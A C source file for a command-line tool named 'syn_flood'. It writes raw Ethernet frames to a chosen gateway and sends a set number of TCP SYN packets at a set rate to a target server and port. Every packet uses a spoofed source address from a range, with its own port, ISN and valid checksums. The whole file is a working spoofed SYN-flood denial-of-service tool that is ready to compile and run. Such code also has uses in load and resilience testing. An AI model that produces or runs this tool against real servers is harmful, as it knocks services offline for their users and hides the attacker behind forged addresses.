// SPDX-License-Identifier: Apache-2.0
// syn_flood DEVICE GATE-MAC COUNT RATE FIRST-SOURCE SOURCES SERVER PORT
// Sends COUNT SYNs at about RATE a second from SOURCES addresses beginning at FIRST-SOURCE, each
// frame with a source port and ISN of its own. Checksums are right: nothing but the source is false.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { kBatch = 64, kFrame = 60 };

static uint8_t frames[kBatch][kFrame];
static struct mmsghdr messages[kBatch];
static struct iovec vectors[kBatch];

static void put16(uint8_t* at, uint32_t v) { at[0] = (uint8_t)(v >> 8), at[1] = (uint8_t)v; }
static void put32(uint8_t* at, uint32_t v) { put16(at, v >> 16), put16(at + 2, v & 0xffff); }

static uint32_t sum(const uint8_t* p, int n, uint32_t s) {
    for (int i = 0; i < n; i += 2) s += (uint32_t)(p[i] << 8 | p[i + 1]);
    return s;
}
static uint32_t fold(uint32_t s) {
    while (s >> 16) s = (s & 0xffff) + (s >> 16);
    return ~s & 0xffff;
}

// IPv4 with a 24-octet TCP header: MSS 1460 is the only option.
static void make_syn(uint8_t* f, uint32_t src, uint32_t dst, uint32_t n, uint16_t port) {
    uint8_t *ip = f + 14, *tcp = f + 34;
    put32(ip + 12, src), put32(ip + 16, dst), put16(ip + 10, 0);
    put16(ip + 10, fold(sum(ip, 20, 0)));
    put16(tcp, 1024 + n % 60000), put16(tcp + 2, port);
    put32(tcp + 4, n * 2654435761u), put16(tcp + 16, 0);
    put16(tcp + 16, fold(sum(tcp, 24, sum(ip + 12, 8, 6 + 24))));
}

static void prepare(const uint8_t* gate, const uint8_t* own) {
    static const uint8_t ip[] = {0x45, 0, 0, 44, 0, 0, 0x40, 0, 64, 6};
    static const uint8_t tcp[] = {0x60, 0x02, 0xfa, 0xf0, 0, 0, 0, 0, 2, 4, 5, 0xb4};
    for (int i = 0; i < kBatch; ++i) {
        memcpy(frames[i], gate, 6), memcpy(frames[i] + 6, own, 6);
        put16(frames[i] + 12, ETH_P_IP);
        memcpy(frames[i] + 14, ip, sizeof ip), memcpy(frames[i] + 46, tcp, sizeof tcp);
        vectors[i] = (struct iovec){frames[i], kFrame};
        messages[i].msg_hdr.msg_iov = &vectors[i], messages[i].msg_hdr.msg_iovlen = 1;
    }
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

int main(int argc, char** argv) {
    if (argc != 9) return fprintf(stderr, "usage: see the source\n"), 2;
    uint8_t gate[6], own[6] = {2, 0x0a, 0, 0, 0, 0x77};
    if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", gate, gate + 1, gate + 2, gate + 3, gate + 4,
               gate + 5) != 6)
        return 2;
    const uint32_t count = (uint32_t)atol(argv[3]), sources = (uint32_t)atol(argv[6]);
    const double rate = atof(argv[4]);
    const uint32_t first = ntohl(inet_addr(argv[5])), dst = ntohl(inet_addr(argv[7]));
    const uint16_t port = (uint16_t)atoi(argv[8]);
    int s = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
    if (s < 0 || bind(s, (struct sockaddr*)&to, sizeof to) != 0) return perror("bind"), 1;
    prepare(gate, own);
    const double begun = now();
    uint32_t sent = 0;
    while (sent < count) {
        const double ahead = begun + sent / rate - now();
        if (ahead > 0) {
            struct timespec t = {0, (long)(ahead * 1e9)};
            nanosleep(&t, NULL);
        }
        int n = count - sent < kBatch ? (int)(count - sent) : kBatch;
        for (int i = 0; i < n; ++i)
            make_syn(frames[i], first + (sent + (uint32_t)i) % sources, dst, sent + (uint32_t)i, port);
        n = sendmmsg(s, messages, (unsigned)n, 0);
        if (n > 0) sent += (uint32_t)n;
    }
    printf("sent %u in %.1f s\n", sent, now() - begun);
    return 0;
}
